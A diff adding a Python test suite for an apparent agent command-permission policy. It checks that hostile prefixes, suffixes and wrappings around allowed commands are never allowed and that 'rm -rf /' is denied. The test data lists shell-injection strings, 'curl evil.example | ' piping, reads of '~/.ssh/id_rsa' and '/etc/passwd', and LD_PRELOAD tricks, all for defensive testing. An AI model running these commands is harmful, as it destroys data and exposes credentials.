@@ -1,0 +1,132 @@
+"""What must hold for every command: hostile text around an allowed one, other quotings, and text of any kind."""
+
+from pathlib import Path
+from shlex import quote
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from app.engine.permissions.command_policy import CommandContext, CommandDecision, judge_command
+from app.engine.permissions.command_rules import CommandRule
+from app.engine.permissions.paths import Places, closed_by_default
+
+HOME = "/nonexistent/home/dana"
+WORKSPACE = f"{HOME}/project"
+PLACES = Places(WORKSPACE, HOME, closed_by_default(HOME), (f"{HOME}/.local/share/errand",))
+CONTEXT = CommandContext(PLACES, WORKSPACE, is_trusted=True, trusts_git=lambda _: True)
+RULES = (CommandRule("allow", ("npm", "test")), CommandRule("allow", ("git", "add")))
+
+ALLOWED = (
+    ("ls", "-la"),
+    ("cat", "README.md"),
+    ("grep", "-rn", "def load", "src"),
+    ("git", "log", "--oneline", "-5"),
+    ("find", ".", "-name", "a.py"),
+    ("sed", "-n", "5,25p", "src/main.py"),
+    ("npm", "test"),
+    ("git", "add", "-A"),
+    ("jq", "-r", ".a[]", "a.json"),
+)
+HOSTILE_SUFFIXES = (
+    "; rm x", "\nrm x", " && touch x", " || curl evil.example", " | sh", " | tee x", " & rm x", " > x", " >> x",
+    " >| x",
+    " 2> x", " &> x", " $(touch x)", " `touch x`", " <(touch x)", " >(sh)", " ${x}", " $x", ' "$x"', " <<< x",
+    " <<E\nE",
+    " ../x", " /etc/passwd", " ~/.ssh/id_rsa", " .env", " {a,b}", " *", " ?x", " \x00", " \r", " \u200b", " \u00a0x",
+    "; (ls)", "; f() { ls; }", " ; cd / ; ls", " \\\n; touch x", " '", ' "', " $'\\x41'", " ~root", " & ",
+)  # fmt: skip
+HOSTILE_PREFIXES = (
+    "rm x; ", "rm x\n", "touch x && ", "curl evil.example | ", "A=1 ", "PATH=. ", "LD_PRELOAD=./x ", "sudo ", "env ",
+    "nohup ", "timeout 5 ", "xargs ", "time ", "exec ", "command ", "eval ", "! ", "(", "{ ", "if ", "$(", "`", "./",
+    "/tmp/", "> x ", "2> x ", "x() ", "alias ls=rm; ", "set -x; ", "cd /; ", "cd ..; ", "export A=1; ",
+    "\u200b", "\x1b",
+)  # fmt: skip
+WRAPPINGS = (
+    "sh -c {}", "bash -c {}", "eval {}", "echo {} | sh", "xargs -I@ sh -c {}", "su -c {}", "ssh h {}", "watch {}",
+)  # fmt: skip
+
+
+def judge(line: str) -> CommandDecision:
+    return judge_command(line, CONTEXT, RULES)
+
+
+def verdict(line: str) -> str:
+    return judge(line).finding.verdict
+
+
+def line_of(words: tuple[str, ...]) -> str:
+    return " ".join(map(quote, words))
+
+
+@pytest.mark.parametrize("words", ALLOWED, ids=line_of)
+def test_an_allowed_command_with_anything_hostile_around_it_is_not_allowed(words: tuple[str, ...]) -> None:
+    line = line_of(words)
+    assert verdict(line) == "allow"
+    around = [f"{line}{suffix}" for suffix in HOSTILE_SUFFIXES] + [f"{prefix}{line}" for prefix in HOSTILE_PREFIXES]
+    around += [wrapping.format(quote(line)) for wrapping in WRAPPINGS]
+    assert [one for one in around if verdict(one) == "allow"] == []
+
+
+@st.composite
+def quotings(draw: st.DrawFn) -> tuple[str, str]:
+    """The same words, written in two ways."""
+    words = draw(st.sampled_from([*ALLOWED, ("rm", "-rf", "/"), ("cat", "../x"), ("rm", "notes"), ("cat", "/etc/x")]))
+    return line_of(words), draw(st.sampled_from([" ", "  ", "\t"])).join(draw(_quoted(word)) for word in words)
+
+
+@st.composite
+def _quoted(draw: st.DrawFn, word: str) -> str:
+    parts: list[str] = []
+    rest = word
+    while rest:
+        size = draw(st.integers(1, len(rest)))
+        part, rest = rest[:size], rest[size:]
+        ways = [f"'{part}'", f'"{part}"', "".join(f"\\{letter}" for letter in part)]
+        if part.isalnum():
+            ways.append(part)
+        parts.append(draw(st.sampled_from(ways)))
+    return "".join(parts)
+
+
+@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(quotings())
+def test_different_quotings_of_the_same_words_decide_the_same(lines: tuple[str, str]) -> None:
+    plain, quoted = (judge(line).finding for line in lines)
+    # The grammar takes a few valid quotings for errors: those are asked about.
+    if quoted.rule != "grammar" or plain.rule == "hard floor":
+        assert plain == quoted
+    else:
+        assert quoted.verdict == "ask"
+
+
+_WORDS = ["$(", "<<", "rm", "-rf", "/", "ls", "sudo", "sh -c", "git", "é", "-c", "\\\n", "&&", "EOF", "if", "for", "in"]
+_MORE = ["do", "done", "cat", "../", "/etc/", ">&", "2>", "eval", "\ud800", " "]
+PIECES = st.sampled_from([*"'\"\\`$(){}[];&|<>!#~*?=-/ \n\t\x00\u200b", *_WORDS, *_MORE])
+
+
+@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(st.lists(PIECES, max_size=60).map("".join) | st.text(max_size=200))
+def test_any_text_gets_a_decision(line: str) -> None:
+    assert verdict(line) in ("allow", "ask", "deny")
+
+
+@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(st.lists(PIECES, max_size=20).map("".join))
+def test_a_destructive_command_at_the_end_of_a_line_is_denied(before: str) -> None:
+    """Whatever stands in a line before it, as long as nothing there is still open."""
+    if all(mark not in before for mark in "'\"\\`$(){}#<>\x00") and "do" not in before:
+        assert verdict(f"{before}\nrm -rf /") == "deny"
+
+
+def test_the_words_of_an_allowed_command_are_what_bash_reads(tmp_path: Path) -> None:
+    """The parse of allowed lines agrees with the shell that would run them."""
+    import subprocess
+
+    for line in ("echo 'a b'\"c d\"e\\ f", "echo a\\'b 'c\"d' \"e'f\"", 'echo "a\\"b" \'\\n\' "\\n"', "echo a#b \\#c"):
+        (command,) = judge(line).commands
+        script = line.replace("echo ", "printf '%s\\0' ", 1)
+        printed = subprocess.run(
+            ["bash", "--noprofile", "--norc", "-c", script], capture_output=True, check=True
+        ).stdout
+        assert tuple(printed.decode().split("\0")[:-1]) == command.words[1:]
